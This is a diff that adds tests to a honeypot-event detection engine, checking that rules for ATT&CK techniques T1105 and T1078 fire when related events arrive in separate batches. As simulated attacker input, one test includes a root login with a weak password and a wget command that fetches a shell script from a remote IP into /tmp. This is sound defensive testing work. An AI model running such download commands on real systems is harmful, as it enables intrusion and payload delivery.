@@ -40,6 +40,24 @@ describe("large passes", () => {
   });
 });
 
+describe("sequences across batches", () => {
+  // The engine runs a rule for a source only when a trigger of the batch is of a kind the rule can fire on: each
+  // second half below arrives alone and must still complete the first.
+  it("a wget command arriving after the login it follows", async () => {
+    const { send, list } = await setup();
+    await send([cowrie.loginSuccess(bot, 0, "root", "123456")]);
+    await send([cowrie.command(bot, 60, "wget http://198.51.100.9/x.sh -O /tmp/x.sh")]);
+    expect((await list()).map((i) => i.detectionKey)).toContain("T1105");
+  });
+
+  it("failures arriving after the successful login they preceded", async () => {
+    const { send, list } = await setup();
+    await send([cowrie.loginSuccess(bot, 100, "root", "123456")]);
+    await send(failuresAt([10, 20, 30]));
+    expect((await list()).map((i) => i.detectionKey)).toContain("T1078");
+  });
+});
+
 describe("event-time windows", () => {
   it("fires at the threshold within the window, measured in event time", async () => {
     const { send, list } = await setup();
